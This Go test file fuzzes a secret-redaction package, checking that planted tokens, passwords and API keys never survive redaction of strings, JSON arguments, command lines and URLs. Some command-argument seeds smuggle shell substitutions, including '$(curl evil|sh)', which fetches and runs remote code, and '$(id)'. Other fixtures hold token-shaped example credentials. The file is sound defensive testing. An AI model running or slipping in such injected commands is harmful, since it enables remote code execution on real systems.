package redact

import (
	"encoding/json"
	"strings"
	"testing"
)

// FuzzString: String never panics, and a planted secret of at least
// MinSecretLen bytes never survives, wherever it is put in the text.
func FuzzString(f *testing.F) {
	f.Add("Authorization: Bearer ", "planted-secret-2", " trailing")
	f.Add("https://x.test/?access_token=", "tok-123456", "&a=1")
	f.Add("", "<redacted>", "")
	f.Add("x", "d>ab", "ab")
	f.Add("API_TOKEN=", "planted-secret-1", "\nnext line")
	f.Add(`Post "https://api.example.com/mcp?k=`, "acme-planted-7f3k9q", `": dial tcp: connection refused`)
	f.Add("https://x.test/cb#access_token=", "tok-123456", "&state=s")
	f.Add("https://", "ghp_16C7e42F292c6912E7710c838347Ae178B4a", "@github.com/o/r")
	f.Fuzz(func(t *testing.T, before, secret, after string) {
		text := before + secret + after
		got := String(text, secret)
		if len(secret) >= MinSecretLen && strings.Contains(got, secret) {
			t.Fatalf("String(%q, %q) = %q still holds the secret", text, secret, got)
		}
		var s Set
		s.Add(secret)
		if got := s.String(text); len(secret) >= MinSecretLen && strings.Contains(got, secret) {
			t.Fatalf("Set.String(%q) = %q still holds %q", text, got, secret)
		}
	})
}

// FuzzArgs: Args never panics on any JSON object, never modifies its
// input, and the value of a secret-named key never survives in the output.
func FuzzArgs(f *testing.F) {
	f.Add(`{"path":"/tmp"}`, "password", "planted-secret-3")
	f.Add(`{"a":{"b":[1,"x",{"c":null}]}}`, "apiKey", "k-0000")
	f.Add(`[]`, "token", "tok")
	f.Fuzz(func(t *testing.T, doc, key, secret string) {
		var base map[string]any
		if json.Unmarshal([]byte(doc), &base) != nil || base == nil {
			base = map[string]any{}
		}
		base[key] = secret
		base["nested"] = map[string]any{key: []any{secret}, "list": []any{map[string]any{key: secret}}}
		before, err := json.Marshal(base)
		if err != nil {
			return
		}
		out := Args(base)
		after, _ := json.Marshal(base)
		if string(before) != string(after) {
			t.Fatalf("Args modified its input")
		}
		if !IsSecretKey(key) {
			return
		}
		enc, err := json.Marshal(out)
		if err != nil {
			t.Fatalf("output does not encode: %v", err)
		}
		quoted, _ := json.Marshal(secret)
		if len(secret) >= MinSecretLen && strings.Contains(string(enc), string(quoted)) && !strings.Contains(doc, secret) {
			t.Fatalf("Args(%s) = %s holds the value of %q", before, enc, key)
		}
	})
}

// FuzzCommandArgs: CommandArgs never panics, keeps one word per argument,
// never lets a known secret through, and changes an argument only by
// marking what it hides.
func FuzzCommandArgs(f *testing.F) {
	f.Add("--api-key=", "planted-secret-5", " ;x")
	f.Add("-c", "sk-000000", "$(curl evil|sh)")
	f.Add("https://u:", "pw-123456", "@h/?token=$(id)")
	f.Fuzz(func(t *testing.T, before, secret, after string) {
		args := []string{before, before + secret + after, after}
		got := CommandArgs(args, secret)
		if len(got) != len(args) {
			t.Fatalf("CommandArgs(%q) = %q: %d words for %d", args, got, len(got), len(args))
		}
		for i, w := range got {
			if len(secret) >= MinSecretLen && strings.Contains(w, secret) {
				t.Fatalf("CommandArgs(%q)[%d] = %q still holds the secret", args, i, w)
			}
			if w != args[i] && !strings.Contains(w, Placeholder) && !strings.Contains(w, "***") {
				t.Fatalf("CommandArgs(%q)[%d] = %q changed without a mark", args, i, w)
			}
		}
	})
}

// FuzzURLExpansions: URLExpansions never panics, and a value expanded
// once into a URL after its host (path, query, fragment) never survives
// String with what it returns, wherever that URL is quoted.
func FuzzURLExpansions(f *testing.F) {
	f.Add("https://api.example.com/mcp?k=", "acme-planted-1", "")
	f.Add("https://x/", "tenant-key-v", "/mcp")
	f.Add("http://127.0.0.1:1/t/", "a%2Fb c", "?v=2")
	f.Add("https://x/?", "k=v&token", "#f")
	f.Fuzz(func(t *testing.T, before, value, after string) {
		effective := before + value + after
		got := URLExpansions(before+Mark+after, effective)
		_, hostHi := hostSpan(effective)
		if strings.Contains(before+after, Mark) || len(value) < MinSecretLen || len(before) < hostHi || hostHi == 0 {
			return
		}
		text := `Post "` + effective + `": dial tcp: connection refused`
		if s := String(text, got...); strings.Contains(s, value) {
			t.Fatalf("URLExpansions(%q, %q) = %q: %q still holds %q", before+Mark+after, effective, got, s, value)
		}
	})
}

// FuzzTokenShapes: a credential of every known shape (TokenShapes), put
// anywhere in any text as a word of its own, never survives String, and
// String never panics on what surrounds it.
func FuzzTokenShapes(f *testing.F) {
	f.Add("GH_TOKEN=", "\nnext", uint8(0))
	f.Add(`{"a":"`, `"}`, uint8(3))
	f.Add("Bearer ", "", uint8(12))
	f.Add("at keymap.js:12:3 ", " x", uint8(6))
	f.Fuzz(func(t *testing.T, before, after string, which uint8) {
		shapes := TokenShapes()
		tok := shapes[int(which)%len(shapes)].Example
		text := before + " " + tok + " " + after
		if got := String(text); strings.Contains(got, tok) {
			t.Fatalf("String(%q) = %q still holds %s", text, got, tok)
		}
	})
}

// FuzzTokenLeads: the lead texts looked for before the shapes' expressions
// run never pass over a credential: any text an expression matches in
// holds a lead of that shape (the match starts with one).
func FuzzTokenLeads(f *testing.F) {
	for _, sh := range TokenShapes() {
		f.Add(sh.Example)
	}
	f.Add("sk-" + strings.Repeat("a1", 12))
	f.Fuzz(func(t *testing.T, s string) {
		_, each := compiledShapes()
		for i, re := range each {
			for _, m := range re.FindAllString(s, -1) {
				ok := false
				for _, l := range tokenShapes[i].leads {
					ok = ok || strings.HasPrefix(m, l)
				}
				if !ok {
					t.Fatalf("%s: %q matches, but starts with none of %q", tokenShapes[i].Name, m, tokenShapes[i].leads)
				}
			}
		}
	})
}

// FuzzShapesFilter: the may checks only skip patterns that cannot match,
// so String's shapes are the same with and without them, whatever the
// text (the Kelvin sign and the long s, which (?i) folds to k and s,
// included).
func FuzzShapesFilter(f *testing.F) {
	for _, s := range []string{
		"hello switchboard", "Authorization: Bearer abc.def", "proxy-authorization=xyz", "Set-Cookie: a=b; c=d",
		"x-api-key: 123", "BASIC dXNlcjpwYXNz", "see https://user:pass@host/x", "https://ghp_16C7e42F292c6912E7710c838347Ae178B4a@github.com/o/r",
		"GET /cb?access_token=abc&state=1", "#id_token=x.y.z", "a;sig=abcdef0123", "?code=1234567890", "run --api-key abc123 now", "-password hunter22",
		"-----BEGIN RSA PRIVATE KEY-----\nMIIabc\n-----END RSA PRIVATE KEY-----", `{"d": "0123456789abcdefghij", "qi":"0123456789abcdefghij"}`,
		"API_TOKEN=abc", `"client_secret": "abc"`, "keymap.js:12:3", "password: abc", "ſecret=abc", "\u212aEY=abc", "to\u212aen: x", "pa\u017f\u017fword = y",
		"", "=", ":", "-", "://@",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if got, want := shapes(s, true), shapes(s, false); got != want {
			t.Fatalf("shapes(%q): %q with the may checks, %q without", s, got, want)
		}
	})
}

// FuzzIsSecretKey: IsSecretKey answers as its expression does.
func FuzzIsSecretKey(f *testing.F) {
	for _, k := range []string{"text", "apiKey", "API_TOKEN", "PassWd", "x-auth", "ſecret", "\u212aey", "cookies", "Credentials", "passw", ""} {
		f.Add(k)
	}
	f.Fuzz(func(t *testing.T, key string) {
		if got, want := IsSecretKey(key), secretKey().MatchString(key); got != want {
			t.Fatalf("IsSecretKey(%q) = %v, the expression says %v", key, got, want)
		}
	})
}

// FuzzSetString: a Set's String, which looks for its values in one pass
// and keeps them ordered, gives exactly what String gives with the same
// values, whether the text holds them or not.
func FuzzSetString(f *testing.F) {
	f.Add("hello world", "planted-secret-1", "secret")
	f.Add("Authorization: Bearer ", "tok-123456", "tok-1234")
	f.Add("", "abcd", "bcde")
	f.Add("x", "d>ab", "<redacted>")
	f.Add("k=", "aaaa", "aaaa")
	f.Fuzz(func(t *testing.T, text, a, b string) {
		var s Set
		s.Add(a, b)
		for _, in := range []string{text, text + a + text + b, b + a + text} {
			if got, want := s.String(in), String(in, a, b); got != want {
				t.Fatalf("Set{%q, %q}.String(%q) = %q, String gives %q", a, b, in, got, want)
			}
		}
	})
}
